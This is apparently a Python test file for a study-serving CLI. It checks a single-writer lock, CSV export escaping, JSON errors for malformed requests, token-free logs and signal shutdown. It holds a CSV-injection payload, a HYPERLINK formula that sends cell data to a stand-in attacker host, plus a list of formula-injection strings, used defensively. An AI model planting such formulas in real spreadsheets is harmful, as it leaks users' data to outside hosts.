"""Study safety (issue 16): one writer per study, CSV cells that cannot become formulas, malformed
requests answered in JSON without a secret token in any log, and Ctrl-C on ``study serve``.

Servers run as real ``probegen study serve`` processes (the lock, the logs and the signal are the
point); imports and exports go through the CLI in-process.
"""

from __future__ import annotations

import csv
import json
import signal
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from contextlib import contextmanager
from pathlib import Path

import pytest
from cli_checks import assert_one_line_error, run

from probegen.study.design import StudyConfig, build_study, write_study
from probegen.study.store import AnswerLog, load_study, read_answers

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent
CODA_JSON = HERE / "data" / "coda21_three_groups.json"
FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"x")'


def make(out: Path, **kw) -> Path:
    cfg = {"conditions": ("full", "context"), "n": 2, "annotators": 1, "overlap": 0, **kw}
    write_study(build_study(CODA_JSON, StudyConfig(**cfg)), out)
    return out


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Server:
    """A real ``probegen study serve`` process; stdout and stderr go to separate files."""

    def __init__(self, study: Path, tmp: Path, sigint_ignored: bool = False) -> None:
        self.port = free_port()
        self.base = f"http://127.0.0.1:{self.port}"
        self.out, self.err = tmp / f"serve-{self.port}.out", tmp / f"serve-{self.port}.err"
        # a shell without job control starts background jobs with SIGINT ignored (`make test &`):
        # the server must stop all the same
        ignore = (lambda: signal.signal(signal.SIGINT, signal.SIG_IGN)) if sigint_ignored else None
        with open(self.out, "w") as o, open(self.err, "w") as e:
            self.proc = subprocess.Popen([sys.executable, "-c", "from probegen.commands.cli import main; main()", "study", "serve", str(study),
                                          "--port", str(self.port)], cwd=ROOT, stdout=o, stderr=e, preexec_fn=ignore)
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            if self.proc.poll() is not None:
                raise AssertionError(f"server exited: {self.err.read_text()}")
            try:
                urllib.request.urlopen(self.base + "/", timeout=1).read()
                return
            except OSError:
                time.sleep(0.1)
        self.proc.kill()
        raise AssertionError("server did not start within 60 s")

    def post(self, path: str, body: bytes, content_type: str = "application/json") -> tuple[int, str, str]:
        req = urllib.request.Request(self.base + path, data=body, headers={"Content-Type": content_type}, method="POST")
        try:
            with urllib.request.urlopen(req, timeout=10) as r:
                return r.status, r.headers.get("Content-Type", ""), r.read().decode()
        except urllib.error.HTTPError as e:
            return e.code, e.headers.get("Content-Type", ""), e.read().decode()

    def stop(self, sig: int = signal.SIGINT) -> int:
        """Send ``sig`` and wait for the exit. The server bounds its own stop (probegen.serving: 10 s,
        then it ends itself); the generous wait here only keeps a broken server from hanging the suite."""
        if self.proc.poll() is None:
            self.proc.send_signal(sig)
        return self.proc.wait(timeout=120)


@contextmanager
def serving(study: Path, tmp: Path, sigint_ignored: bool = False):
    srv = Server(study, tmp, sigint_ignored)
    try:
        yield srv
    finally:
        if srv.proc.poll() is None:
            srv.proc.kill()
            srv.proc.wait(timeout=20)


def tokens_of(study: Path) -> dict[str, str]:
    return json.loads((study / "tokens.json").read_text())


def items_of(study: Path, aid: str) -> list[str]:
    return json.loads((study / "assignment.json").read_text())["annotators"][aid]["items"]


def group_size(study: Path, uid: str) -> int:
    return next(len(json.loads(ln)["view"]["rows"]) for ln in (study / "items.jsonl").read_text().splitlines()
                if json.loads(ln)["uid"] == uid)


# ---- item 4: one writer per study ---------------------------------------------------------------------
def test_import_is_refused_while_the_study_is_served_and_no_acknowledged_answer_is_lost(tmp_path):
    s = make(tmp_path / "s")
    uid = items_of(s, "full-1")[0]
    k = group_size(s, uid)
    imported, served = list(range(k)), [1, 0] + list(range(2, k))
    csv_file = tmp_path / "a.csv"
    csv_file.write_text("annotator,item,answer\nfull-1,%s,\"%s\"\n" % (uid, ",".join("ABCDEFGHIJ"[i] for i in imported)))
    with serving(s, tmp_path) as srv:
        code, out, err = run("study", "import", s, csv_file)
        assert_one_line_error(code, err, f"study {s} is being served (pid {srv.proc.pid})", "stop the server first")
        assert not read_answers(s / "answers" / "full-1.jsonl")  # nothing was imported
        tok = tokens_of(s)["full-1"]
        status, _, body = srv.post(f"/api/{tok}/answer", json.dumps({"item": uid, "answer": served}).encode())
        assert status == 200 and json.loads(body)["stored"] is True
        # a second server on the same study is refused too (two writers would each trust their own memory)
        assert_one_line_error(*run("study", "serve", s, "--port", free_port())[::2], "is being served", f"pid {srv.proc.pid}")
        srv.stop(signal.SIGKILL)  # even a killed server frees the study (the OS drops the lock)
    # the acknowledged answer is what export, score and a restart see; the import now refuses it as a conflict
    code, _, err = run("study", "import", s, csv_file)
    assert_one_line_error(code, err, "already answered", "first answer is final")
    assert run("study", "export", s, "--out", tmp_path / "out.csv")[0] == 0
    rows = list(csv.DictReader(open(tmp_path / "out.csv", newline="")))
    assert next(r["answer"] for r in rows if (r["annotator"], r["item"]) == ("full-1", uid)) == ",".join("ABCDEFGHIJ"[i] for i in served)
    with serving(s, tmp_path) as srv:
        state = json.loads(urllib.request.urlopen(f"{srv.base}/api/{tokens_of(s)['full-1']}/state").read())
        assert state["answered"][uid]["answer"] == served


def test_the_store_sees_answers_written_behind_its_back(tmp_path):
    """Two AnswerLogs on one study (the lock is the rule; this is the store's own defence)."""
    s = make(tmp_path / "s")
    uid = items_of(s, "full-1")[0]
    k = group_size(s, uid)
    a, b = AnswerLog(load_study(s)), AnswerLog(load_study(s))
    assert b.submit("full-1", uid, list(range(k)))[1] is True
    from probegen.study.store import AnswerError

    with pytest.raises(AnswerError) as e:
        a.submit("full-1", uid, [1, 0] + list(range(2, k)))
    assert e.value.status == 409
    assert a.submit("full-1", uid, list(range(k)))[1] is False  # the same answer: a no-op, not a second record
    assert len(read_answers(s / "answers" / "full-1.jsonl")) == 1


# ---- item 5: CSV injection ---------------------------------------------------------------------------
DANGEROUS = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "'=already quoted", "'plain"]


def test_export_neutralises_formula_cells_and_import_round_trips_them(tmp_path):
    s = make(tmp_path / "s", conditions=("context",), n=3)
    items = items_of(s, "context-1")
    log = AnswerLog(load_study(s))
    given = {}
    for j, uid in enumerate(items):
        k = group_size(s, uid)
        guesses = (DANGEROUS[2 * j:2 * j + 2] + ["word"] * k)[:k]
        given[uid] = guesses
        log.submit("context-1", uid, list(range(k)), guesses)
    code, _, err = run("study", "export", s, "--out", tmp_path / "out.csv")
    assert code == 0, err
    rows = list(csv.reader(open(tmp_path / "out.csv", newline="")))
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", cell  # OWASP: no cell opens with a formula character
    by_item = {r[2]: r for r in rows[1:]}
    assert by_item[items[0]][8].startswith("'" + FORMULA)
    # import into an identical study: the guesses come back exactly as given
    s2 = make(tmp_path / "s2", conditions=("context",), n=3)
    code, out, err = run("study", "import", s2, tmp_path / "out.csv")
    assert code == 0 and "imported 3" in out, err
    assert {r["item"]: r["guess"] for r in read_answers(s2 / "answers" / "context-1.jsonl")} == given


# ---- item 6: malformed bodies, logs without tokens -------------------------------------------------
def test_malformed_bodies_get_json_errors_and_no_token_reaches_the_log(tmp_path):
    s = make(tmp_path / "s")
    tok = tokens_of(s)["full-1"]
    uid = items_of(s, "full-1")[0]
    with serving(s, tmp_path) as srv:
        for body in (b"[" * 50000, b"{" * 30000, b"[" * 100000, b"\xff\xfe{", b"{not json", b"[1, 2]"):
            status, ctype, text = srv.post(f"/api/{tok}/answer", body)
            assert status in (400, 413) and ctype.startswith("application/json"), (status, text[:200])
            assert "error" in json.loads(text)
        status, ctype, text = srv.post(f"/api/{tok}/answer", b"item=x", "application/x-www-form-urlencoded")
        assert status == 400 and "error" in json.loads(text)
        # a malformed request line: http.server logs it (with the path) as an error
        with socket.create_connection(("127.0.0.1", srv.port)) as c:
            c.sendall(f"GET /a/{tok} junk HTTP/1.1\r\n\r\n".encode())
            c.recv(4096)
        with socket.create_connection(("127.0.0.1", srv.port)) as c:
            c.sendall(f"GET /api/{tok}/state HTTP/9.9\r\n\r\n".encode())
            c.recv(4096)
        ok = srv.post(f"/api/{tok}/answer", json.dumps({"item": uid, "answer": list(range(group_size(s, uid)))}).encode())
        assert ok[0] == 200  # the server still answers after all that
        srv.stop()
    err = srv.err.read_text()
    assert tok not in err and "Traceback" not in err, err
    assert "<!doctype html>" not in err.lower()


def test_an_unexpected_error_is_a_json_500_and_logs_no_token(tmp_path, monkeypatch, caplog):
    from probegen.study import server

    s = make(tmp_path / "s")
    tok = tokens_of(s)["full-1"]
    c = server.create_app(s).test_client()

    def boom(*a, **k):
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(server.AnswerLog, "submit", boom)
    with caplog.at_level("DEBUG"):
        r = c.post(f"/api/{tok}/answer", json={"item": "q1", "answer": 0})
        assert r.status_code == 500 and r.is_json and "error" in r.get_json()
        r = c.post(f"/api/{tok}/answer", data="[" * 50000, content_type="application/json")
        assert r.status_code == 400 and r.is_json and "error" in r.get_json()
    assert tok not in caplog.text


# ---- item 12: Ctrl-C ---------------------------------------------------------------------------------
@pytest.mark.parametrize("sig, ignored", [(signal.SIGINT, False), (signal.SIGINT, True), (signal.SIGTERM, False)],
                         ids=["sigint", "sigint-inherited-ignored", "sigterm"])
def test_ctrl_c_stops_the_server_with_130_and_one_line(tmp_path, sig, ignored):
    s = make(tmp_path / "s")
    with serving(s, tmp_path, sigint_ignored=ignored) as srv:
        # a client that sent half a request holds a handler thread in a read: the stop must not wait on it
        stuck = socket.create_connection(("127.0.0.1", srv.port))
        stuck.sendall(b"POST /api/x/answer HTTP/1.1\r\nContent-Length: 1000\r\n\r\n{")
        t0 = time.monotonic()
        code = srv.stop(sig)
        took = time.monotonic() - t0
        stuck.close()
    err = srv.err.read_text()
    assert code == 130 and took < 60, (code, took, err)
    assert_one_line_error(code, err, "interrupted", status=130)
    # the study is free again: an import is no longer refused
    (tmp_path / "empty.csv").write_text("annotator,item,answer\n")
    assert run("study", "import", s, tmp_path / "empty.csv")[0] == 0


def test_export_never_replaces_a_csv_probegen_did_not_write(tmp_path):
    s = make(tmp_path / "s", conditions=("context",), n=3)
    sheet = tmp_path / "budget.csv"
    sheet.write_text("month,amount\njan,3\n")
    code, _, err = run("study", "export", s, "--out", sheet)
    assert code == 1 and "probegen did not write it" in err and err.count("\n") == 1, err
    assert sheet.read_text() == "month,amount\njan,3\n"
    for _ in range(2):  # its own earlier export is replaced
        code, _, err = run("study", "export", s, "--out", tmp_path / "out.csv")
        assert code == 0, err
